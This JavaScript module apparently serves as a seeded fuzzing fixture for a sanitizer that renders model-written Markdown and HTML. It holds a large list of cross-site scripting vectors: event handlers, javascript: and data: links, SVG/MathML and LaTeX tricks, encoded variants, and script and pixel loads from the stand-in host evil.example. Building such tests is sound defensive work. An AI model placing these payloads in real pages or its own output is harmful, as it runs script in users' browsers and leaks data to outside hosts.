// What an attacker would have a model write, or write themselves, to run a script in somebody's browser or to have it ask another
// site. Each is a vector in some dress, cut at random places; the same seed makes the same.

/** Whoever is asked in vain. Nothing is there. */
export const ELSEWHERE = 'evil.example';

const RUN = 'window.__ran=1';
const AWAY = `https://${ELSEWHERE}`;

const VECTORS = [
  // HTML as it is.
  `<script>${RUN}</script>`,
  `<ScRiPt/x>${RUN}</sCrIpT>`,
  `<script src=${AWAY}/a.js></script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src="${AWAY}/a.png"/onerror="${RUN}">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img srcset="${AWAY}/a.png 1x, ${AWAY}/b.png 2x">`,
  `<picture><source srcset=${AWAY}/a.webp><img src=x></picture>`,
  `<video poster=${AWAY}/a.png onloadstart=${RUN}><source src=${AWAY}/a.mp4 onerror=${RUN}></video>`,
  `<audio src=${AWAY}/a.mp3 autoplay oncanplay=${RUN}>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
  `<object data="data:text/html,<script>parent.__ran=1</script>"></object>`,
  `<embed src="${AWAY}/a.swf">`,
  `<base href=${AWAY}/>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<link rel=stylesheet href=${AWAY}/a.css>`,
  `<link rel=prefetch href=//${ELSEWHERE}/a>`,
  `<style>@import "${AWAY}/a.css"; *{background:url(${AWAY}/a.png)}</style>`,
  `<p style="background:url(${AWAY}/a.png);position:fixed;inset:0">x</p>`,
  `<form action=${AWAY}><button autofocus onfocus=${RUN}>x</button></form>`,
  `<button form=x formaction="javascript:${RUN}">x</button>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onload=${RUN} onpageshow=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div popover id=p onbeforetoggle=${RUN}>x</div>`,
  `<xss style=animation-name:caret onanimationstart=${RUN}>x`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!-- --><img src=x onerror=${RUN}><!-- -->`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?php <img src=x onerror=${RUN}> ?>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}`,
  '`" onmouseover=window.__ran=1 `',
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</textarea></p></li></template><script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  // SVG and MathML.
  `<svg onload=${RUN}>`,
  `<svg><script href=${AWAY}/a.js></script></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${RUN} /></svg>#x"></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><image href=${AWAY}/a.png></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext></p><style><!--</style><img src=x onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mglyph><style><img src=x onerror=${RUN}>`,
  // Links and pictures of Markdown.
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](<java\tscript:${RUN}>)`,
  `[x](<\u0001javascript:${RUN}>)`,
  `[x](&#106;avascript:${RUN})`,
  `[x](&#x6A;avascript&colon;${RUN})`,
  `[x](java&NewLine;script&colon;${RUN})`,
  `[x](\\javascript:${RUN})`,
  `[x](javascript&#58;${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==)`,
  `[x](vbscript:${RUN})`,
  `[x](blob:${AWAY}/1)`,
  `[x](view-source:${AWAY})`,
  `[x](//${ELSEWHERE})`,
  `[x](/\\${ELSEWHERE})`,
  `[x](${AWAY}"onmouseover="${RUN})`,
  `[x](${AWAY} 'a" onmouseover="${RUN}')`,
  `[a [b](javascript:${RUN}) c](${AWAY})`,
  `[![x](${AWAY}/a.png)](javascript:${RUN})`,
  `[x]: javascript:${RUN}\n\n[x] [x][x]`,
  `[^1]: <img src=x onerror=${RUN}>\n\nSee[^1]`,
  `<javascript:${RUN}>`,
  `<data:text/html,x>`,
  `<https://${ELSEWHERE}/"onmouseover="${RUN}>`,
  `www.${ELSEWHERE}/"onmouseover="${RUN}`,
  `<a@${ELSEWHERE}"onmouseover="${RUN}>`,
  `![x](${AWAY}/pixel.png)`,
  `![x](//${ELSEWHERE}/pixel.png)`,
  `![x](javascript:${RUN})`,
  `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__ran=1">)`,
  `![x" onerror="${RUN}](/a.png)`,
  `![x](/a.png"onerror="${RUN})`,
  // Formulas and code.
  `$\\href{javascript:${RUN}}{x}$`,
  `$$\\url{javascript:${RUN}}$$`,
  `\\(\\includegraphics{${AWAY}/a.png}\\)`,
  `\\[\\text{</math><img src=x onerror=${RUN}>}\\]`,
  `$\\htmlData{onclick=${RUN}}{x}$`,
  `$\\def\\x{<img src=x onerror=${RUN}>}\\x$`,
  `$\\unicode{x3c}script>${RUN}</script>$`,
  `\`\`\`"onmouseover="${RUN}\nx\n\`\`\``,
  `\`\`\`html\n<img src=x onerror=${RUN}>\n\`\`\``,
  `\`\`\`\n</code></pre><img src=x onerror=${RUN}>`,
  `~~~"><script>${RUN}</script>\nx\n~~~`,
  `\`</code><img src=x onerror=${RUN}>\``,
  // Letters that are something else somewhere.
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cimg src=x onerror=${RUN}%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\u202e<img src=x onerror=${RUN}>`,
  `<\u0000img src=x onerror=${RUN}>`,
];

/** What stands around it. */
const DRESSES = [
  (text) => text,
  (text) => text,
  (text) => `**${text}**`,
  (text) => `# ${text}`,
  (text) => `- ${text}\n  - ${text}`,
  (text) => `> > ${text}`,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll('\n', ' ')} | x |`,
  (text) => `1. [x] ${text}`,
  (text) => `[${text}](${AWAY})`,
  (text) => `[x](${text})`,
  (text) => `![${text}](/a.png)`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `\`${text}\``,
  (text) => `$${text}$`,
  (text) => `<div>${text}</div>`,
  (text) => `_~~${text}~~_`,
  (text) => `${text}\n===`,
  (text) => `<!-- ${text} -->`,
];

/** Numbers from 0 up to 1, from a seed (mulberry32). */
export function numbers(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

/** So many payloads: some whole, the others cut, joined or with a hole. */
export function payloads(seed, count) {
  const random = numbers(seed);
  const below = (most) => Math.floor(random() * most);
  const pick = (list) => list[below(list.length)];
  const dressed = () => pick(DRESSES)(pick(VECTORS));
  return Array.from({ length: count }, (_, number) => {
    // Each vector is there once as it is, in the first batches.
    const whole = (seed - 1) * count + number;
    if (whole < VECTORS.length) return VECTORS[whole];
    const letters = [...dressed()];
    const [one, other] = [below(letters.length + 1), below(letters.length + 1)].sort((a, b) => a - b);
    switch (below(5)) {
      case 0:
        return letters.join('');
      case 1:
        return letters.slice(0, other).join('');
      case 2:
        return letters.slice(one).join('');
      case 3:
        return [...letters.slice(0, one), ...letters.slice(other)].join('');
      default: {
        const next = [...dressed()];
        return [...letters.slice(0, other), ...next.slice(below(next.length))].join('');
      }
    }
  });
}

/** A text in pieces of one to thirty letters, as a model would send it. */
export function pieces(seed, text) {
  const random = numbers(seed);
  const letters = [...text];
  const cut = [];
  while (letters.length > 0) cut.push(letters.splice(0, 1 + Math.floor(random() * 30)).join(''));
  return cut;
}
